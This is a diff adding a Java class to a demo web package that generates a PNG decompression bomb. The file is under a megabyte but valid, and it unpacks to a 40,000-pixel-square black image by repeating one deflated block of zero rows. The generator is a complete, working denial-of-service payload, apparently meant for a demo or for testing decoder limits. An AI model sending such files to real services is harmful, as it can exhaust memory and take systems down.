@@ -1,0 +1,93 @@
+package dev.tinyipc.demo.web;
+
+import java.io.ByteArrayOutputStream;
+import java.io.DataOutputStream;
+import java.io.IOException;
+import java.util.Arrays;
+import java.util.zip.CRC32;
+import java.util.zip.Deflater;
+
+import static java.nio.charset.StandardCharsets.US_ASCII;
+
+/**
+ * A file of less than a megabyte, and a whole and valid PNG (ISO/IEC 15948), that unpacks
+ * to 1.6 gigapixels of black.
+ */
+final class DecompressionBomb {
+
+	/** Pixels. */
+	private static final int SIDE = 40_000;
+
+	private static final byte[] SIGNATURE = { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' };
+
+	/** Bits of a pixel. */
+	private static final byte DEPTH = 4;
+
+	/** Bytes: the filter's number, and the pixels. */
+	private static final int ROW = 1 + SIDE * DEPTH / 8;
+
+	/** The largest prime below 2 to the 16th, of the checksum of RFC 1950. */
+	private static final int ADLER_BASE = 65_521;
+
+	private DecompressionBomb() {
+	}
+
+	static byte[] png() throws IOException {
+		ByteArrayOutputStream png = new ByteArrayOutputStream();
+		png.write(SIGNATURE);
+		writeChunk(png, "IHDR", header());
+		writeChunk(png, "IDAT", rows());
+		writeChunk(png, "IEND", new byte[0]);
+		return png.toByteArray();
+	}
+
+	private static byte[] header() throws IOException {
+		ByteArrayOutputStream header = new ByteArrayOutputStream();
+		DataOutputStream data = new DataOutputStream(header);
+		data.writeInt(SIDE);
+		data.writeInt(SIDE);
+		data.write(new byte[] { DEPTH, 0, 0, 0, 0 }); // grey, and the only methods there
+														// are
+		return header.toByteArray();
+	}
+
+	/** Zeros only: a hundred rows are deflated once, and what they become is repeated. */
+	private static byte[] rows() throws IOException {
+		byte[] block = deflateOnItsOwn(new byte[100 * ROW]);
+		ByteArrayOutputStream rows = new ByteArrayOutputStream();
+		DataOutputStream data = new DataOutputStream(rows);
+		data.writeShort(0x78da); // zlib's header: deflated, as small as can be
+		for (int i = 0; i < SIDE / 100; i++) {
+			data.write(block);
+		}
+		data.writeShort(0x0300); // a last block, which is empty
+		data.writeInt((int) ((long) SIDE * ROW % ADLER_BASE) << 16 | 1); // of zeros
+		return rows.toByteArray();
+	}
+
+	/** To whole bytes, which refer to nothing that came before. */
+	private static byte[] deflateOnItsOwn(byte[] content) {
+		Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
+		try {
+			deflater.setInput(content);
+			byte[] deflated = new byte[content.length];
+			int length = deflater.deflate(deflated, 0, deflated.length, Deflater.FULL_FLUSH);
+			return Arrays.copyOf(deflated, length);
+		}
+		finally {
+			deflater.end();
+		}
+	}
+
+	private static void writeChunk(ByteArrayOutputStream png, String type, byte[] content) throws IOException {
+		CRC32 checksum = new CRC32();
+		checksum.update(type.getBytes(US_ASCII));
+		checksum.update(content);
+		DataOutputStream data = new DataOutputStream(png);
+		data.writeInt(content.length);
+		data.writeBytes(type);
+		data.write(content);
+		data.writeInt((int) checksum.getValue());
+	}
+
+}
